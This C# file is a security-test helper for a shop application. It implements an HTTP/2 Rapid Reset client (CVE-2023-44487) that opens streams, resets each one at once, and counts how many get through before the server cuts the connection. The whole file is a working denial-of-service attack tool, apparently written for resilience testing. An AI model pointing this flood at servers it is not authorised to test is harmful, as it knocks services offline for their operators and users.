using System.Buffers.Binary;
using System.Net.Sockets;
using System.Text;

namespace Shop.Tests.Security;

/// <summary>An HTTP/2 client that opens streams and resets each at once (CVE-2023-44487).</summary>
internal sealed class RapidReset : IDisposable
{
    private const byte Headers = 1;
    private const byte ResetStream = 3;
    private const byte Settings = 4;
    private const byte EndOfHeaders = 4;
    private static readonly byte[] Preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray();

    private readonly TcpClient _client;
    private readonly NetworkStream _stream;
    private readonly byte[] _headers;

    private RapidReset(TcpClient client, byte[] headers) => (_client, _stream, _headers) = (client, client.GetStream(), headers);

    public static async Task<RapidReset> ConnectAsync(Uri server, string path)
    {
        var client = new TcpClient();
        await client.ConnectAsync(server.Host, server.Port);
        var flood = new RapidReset(client, HeaderBlock(server.Authority, path));
        await flood._stream.WriteAsync((byte[])[.. Preface, .. Frame(Settings, flags: 0, stream: 0, [])]);
        return flood;
    }

    /// <summary>Sends so many; returns how many went out before the server ended the connection.</summary>
    public async Task<int> SendAsync(int streams)
    {
        // What comes back has to be taken off the wire, or the server cannot say that it has had enough.
        var reading = _stream.CopyToAsync(Stream.Null);
        byte[] cancel = [0, 0, 0, 8];
        for (var i = 0; i < streams; i++)
        {
            var id = (uint)(2 * i + 1);
            try
            {
                await _stream.WriteAsync((byte[])[.. Frame(Headers, EndOfHeaders, id, _headers), .. Frame(ResetStream, flags: 0, id, cancel)]);
            }
            catch (IOException)
            {
                return i;
            }

            if (reading.IsCompleted)
            {
                return i;
            }
        }

        return streams;
    }

    public void Dispose() => _client.Dispose();

    private static byte[] Frame(byte type, byte flags, uint stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        BinaryPrimitives.WriteUInt32BigEndian(frame, (uint)payload.Length << 8 | type);
        frame[4] = flags;
        BinaryPrimitives.WriteUInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }

    // HPACK (RFC 7541): indexed ":method: POST" and ":scheme: http", the rest literal, without a table.
    private static byte[] HeaderBlock(string authority, string path) =>
        [0x83, 0x86, 0x01, .. Text(authority), 0x04, .. Text(path), 0x0f, 0x10, .. Text("application/grpc"), 0x00, .. Text("te"), .. Text("trailers")];

    private static byte[] Text(string text) => [(byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
}
